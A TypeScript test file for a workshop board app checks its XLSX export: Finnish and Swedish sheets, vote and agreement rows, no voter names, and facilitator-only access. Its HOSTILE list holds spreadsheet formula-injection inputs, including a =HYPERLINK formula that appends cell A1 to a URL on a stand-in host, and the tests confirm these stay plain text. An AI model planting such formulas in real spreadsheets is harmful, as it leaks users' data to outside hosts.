import {
  addAgreement,
  closeVote,
  createNote,
  isVisibleNote,
  type NoteId,
  openVote,
  readAllNotes,
  updateAgreement,
  voteResults,
} from '@avaa/board-model';
import { strFromU8, unzipSync } from 'fflate';
import readXlsxFile from 'read-excel-file/node';
import { afterEach, describe, expect, test } from 'vitest';
import type * as Y from 'yjs';
import { postJson } from './helpers/api.ts';
import { connectAs, disconnectAll, synced } from './helpers/clients.ts';
import { placeDot } from './helpers/dots.ts';
import { eventually } from './helpers/eventually.ts';
import { getExport, NOTES, workshopWithNotes } from './helpers/exchange.ts';
import { closeTestServers, startTestServer } from './helpers/server.ts';
import { connectRoom } from './helpers/workshop.ts';

// format=xlsx through the real API: the workbook read back with a spreadsheet reader, and its
// XML looked at for what a spreadsheet would run.

afterEach(async () => {
  disconnectAll();
  await closeTestServers();
});

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
/** Texts a spreadsheet would run as formulas if they were written as such. */
const HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"Avaa")', '+SUM(1,2)', '-2+3', '@SUM(1)'] as const;
const LONG = `Pitkä lappu: ${'palveluohjaus '.repeat(40)}`.slice(0, 500);

function must<T>(result: { ok: true; value: T } | { ok: false; error: string }): T {
  if (!result.ok) throw new Error(result.error);
  return result.value;
}

type Sheets = Awaited<ReturnType<typeof readXlsxFile>>;
const sheet = (sheets: Sheets, name: string) => {
  const found = sheets.find((entry) => entry.sheet === name);
  if (!found) throw new Error(`no sheet ${name}: ${sheets.map((entry) => entry.sheet).join(', ')}`);
  return found.data;
};

describe('GET /api/workshops/<id>/export?format=xlsx', () => {
  test('a sheet per board, the agreements and the votes, in Finnish; formulas stay text', async () => {
    const server = await startTestServer();
    const { workshop, anna, facilitator } = await workshopWithNotes(server.url);
    const token = workshop.sync.tokens.facilitator;
    const table = connectAs(workshop, 'facilitator');
    const annaTable = connectRoom(workshop, workshop.sync.board, anna.token);
    await synced(table, annaTable);
    for (const text of [...HOSTILE, LONG]) must(createNote(table.doc, 'ending:services', { text }));
    // A raw client types what the operations refuse: control characters inside a note's text.
    const raw = must(createNote(table.doc, 'ending:collaboration', { text: 'Ohjaus ja neuvonta' }));
    const rawText = (table.doc.getMap('notes').get(raw) as Y.Map<unknown>).get('text') as Y.Text;
    rawText.insert(6, '\u0007\u001B');
    rawText.insert(0, '\u0000');
    // The server took it: another client has the text with its control characters.
    const annaSees = () => (annaTable.doc.getMap('notes').get(raw) as Y.Map<unknown> | undefined)?.get('text');
    await eventually(() => expect(String(annaSees())).toBe('\u0000Ohjaus\u0007\u001B ja neuvonta'));
    must(addAgreement(facilitator.doc, 'decide-now', { text: 'Yhteinen ajanvaraus – ”heti”', owner: 'Åsa Öberg' }));
    const item = must(addAgreement(facilitator.doc, 'adoption', { text: 'Perehdytys', due: '2027-01-15' }));
    must(updateAgreement(facilitator.doc, item, { status: 'done' }));

    const noteOf = (text: string) =>
      readAllNotes(table.doc).find((note) => isVisibleNote(note) && note.text === text)?.id as NoteId;
    const vote = must(openVote(table.doc, { dotsPerPerson: 2 }));
    await eventually(() => expect(annaTable.doc.getMap('votes').has(vote)).toBe(true));
    for (let dot = 0; dot < 2; dot++) {
      expect((await placeDot(server.url, workshop, vote, anna.token, noteOf(NOTES.plenary))).status).toBe(201);
    }
    await eventually(() => expect(voteResults(table.doc, vote)?.totalDots).toBe(2));
    must(closeVote(table.doc, vote));

    let sheets: Sheets = [];
    let bytes: Uint8Array = new Uint8Array();
    await eventually(async () => {
      const download = await getExport(server.url, workshop.id, 'format=xlsx', token);
      expect(download.status).toBe(200);
      expect(download.headers.get('content-type')).toBe(XLSX);
      expect(download.headers.get('content-disposition')).toBe(
        'attachment; filename="avaa-ohjaamo-espoo-asiakasprosessi-workshop.xlsx"',
      );
      bytes = download.bytes;
      sheets = await readXlsxFile(Buffer.from(bytes));
      // Once the server has the closed vote and both agreements.
      expect(sheet(sheets, 'Pisteäänestykset')[1]?.[1]).toBe('suljettu');
      expect(sheet(sheets, 'Sopimukset')).toHaveLength(3);
    });
    expect(sheets.map((entry) => entry.sheet)).toEqual([
      'Yhteinen taulukko',
      'Ryhmä 1',
      'Ryhmä 2',
      'Sopimukset',
      'Pisteäänestykset',
    ]);

    const plenary = sheet(sheets, 'Yhteinen taulukko');
    expect(plenary[0]).toEqual([
      'vaihe',
      'ulottuvuus',
      'teksti',
      'tyyppi',
      'väri',
      'luotu',
      'pistettä',
      'lähteet',
      'pinossa',
      'kommentit',
      'reaktiot',
    ]);
    const first = plenary.find((row) => row[2] === NOTES.plenary);
    expect(first?.slice(0, 5)).toEqual([
      'Ennen asiakkuuden alkua',
      'Toimenpiteet ja palvelut',
      NOTES.plenary,
      'lappu',
      'keltainen',
    ]);
    // A real date (read back as a Date), within the day the test ran.
    const created = first?.[5];
    expect(created).toBeInstanceOf(Date);
    expect(Math.abs(Number(created) - Date.now())).toBeLessThan(36 * 3600_000);
    expect(first?.[6]).toBe(2);
    const texts = plenary.map((row) => row[2]);
    for (const text of [...HOSTILE, LONG]) expect(texts).toContain(text);
    expect(texts).toContain('Ohjaus ja neuvonta');
    expect(sheet(sheets, 'Ryhmä 1').map((row) => row[2])).toEqual(['teksti', NOTES.group]);

    expect(sheet(sheets, 'Sopimukset')).toEqual([
      ['kysymys', 'kohta', 'vastuu', 'määräaika', 'tila'],
      ['1. Mitä voimme sopia ja päättää tässä ja nyt?', 'Yhteinen ajanvaraus – ”heti”', 'Åsa Öberg', null, 'avoin'],
      [expect.stringMatching(/^4\. /), 'Perehdytys', null, new Date(Date.UTC(2027, 0, 15)), 'valmis'],
    ]);
    const votes = sheet(sheets, 'Pisteäänestykset');
    expect(votes[0]).toEqual([
      'äänestys avattu',
      'äänestyksen tila',
      'pisteitä / hlö',
      'vaihe',
      'ulottuvuus',
      'teksti',
      'pistettä',
    ]);
    expect(votes).toHaveLength(2);
    expect(votes[1]?.[0]).toBeInstanceOf(Date);
    expect(votes[1]?.slice(1)).toEqual([
      'suljettu',
      2,
      'Ennen asiakkuuden alkua',
      'Toimenpiteet ja palvelut',
      NOTES.plenary,
      2,
    ]);
    // Never who voted: Anna placed the dots and wrote no comment, so her name is nowhere.
    expect(sheets.flatMap((entry) => entry.data.flat())).not.toContain('Anna');

    // The file itself: each hostile text a shared string, no formula anywhere, the header frozen.
    const files = unzipSync(bytes);
    const xml = (name: string) => strFromU8(files[name] ?? new Uint8Array());
    const worksheets = Object.keys(files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(worksheets.length).toBe(5);
    for (const name of worksheets) {
      expect(xml(name)).not.toMatch(/<f[ >]/);
      expect(xml(name)).toContain('state="frozen"');
    }
    const shared = xml('xl/sharedStrings.xml');
    expect(shared).toContain('<t>=HYPERLINK("http://example.invalid/?q="&amp;A1,"Avaa")</t>');
    expect(shared).toContain('<t>+SUM(1,2)</t>');
  });

  test('a Swedish workshop speaks Swedish', async () => {
    const server = await startTestServer();
    const created = await postJson(server.url, { title: 'Navigatorn i Åbo', language: 'sv' });
    const workshop = created.body as Parameters<typeof connectAs>[0];
    const table = connectAs(workshop, 'facilitator');
    await synced(table);
    must(createNote(table.doc, 'start:collaboration', { text: 'Parsamtal med kuratorn' }));
    const token = workshop.sync.tokens.facilitator;
    await eventually(async () => {
      const download = await getExport(server.url, workshop.id, 'format=xlsx', token);
      const sheets = await readXlsxFile(Buffer.from(download.bytes));
      expect(sheets.map((entry) => entry.sheet)).toEqual(['Gemensam tabell', 'Överenskommelser', 'Prickröstningar']);
      const rows = sheet(sheets, 'Gemensam tabell');
      expect(rows[0]?.slice(0, 7)).toEqual(['fas', 'dimension', 'text', 'typ', 'färg', 'skapad', 'prickar']);
      expect(rows[1]?.slice(0, 5)).toEqual([
        'Inledningsskedet',
        'Personalens och det sektorsövergripande samarbetet',
        'Parsamtal med kuratorn',
        'lapp',
        'gul',
      ]);
      expect(sheet(sheets, 'Överenskommelser')[0]).toEqual(['fråga', 'punkt', 'ansvarig', 'senast', 'status']);
    });
  });

  test('the facilitator only, as every export: participant and viewer 403, no token 401', async () => {
    const server = await startTestServer();
    const { workshop, anna } = await workshopWithNotes(server.url);
    const { tokens } = workshop.sync;
    for (const token of [tokens.participant, tokens.viewer, anna.token]) {
      const refused = await getExport(server.url, workshop.id, 'format=xlsx', token);
      expect(refused.status).toBe(403);
      expect(JSON.parse(refused.text)).toEqual({ error: 'forbidden' });
    }
    expect((await getExport(server.url, workshop.id, 'format=xlsx')).status).toBe(401);
  });
});
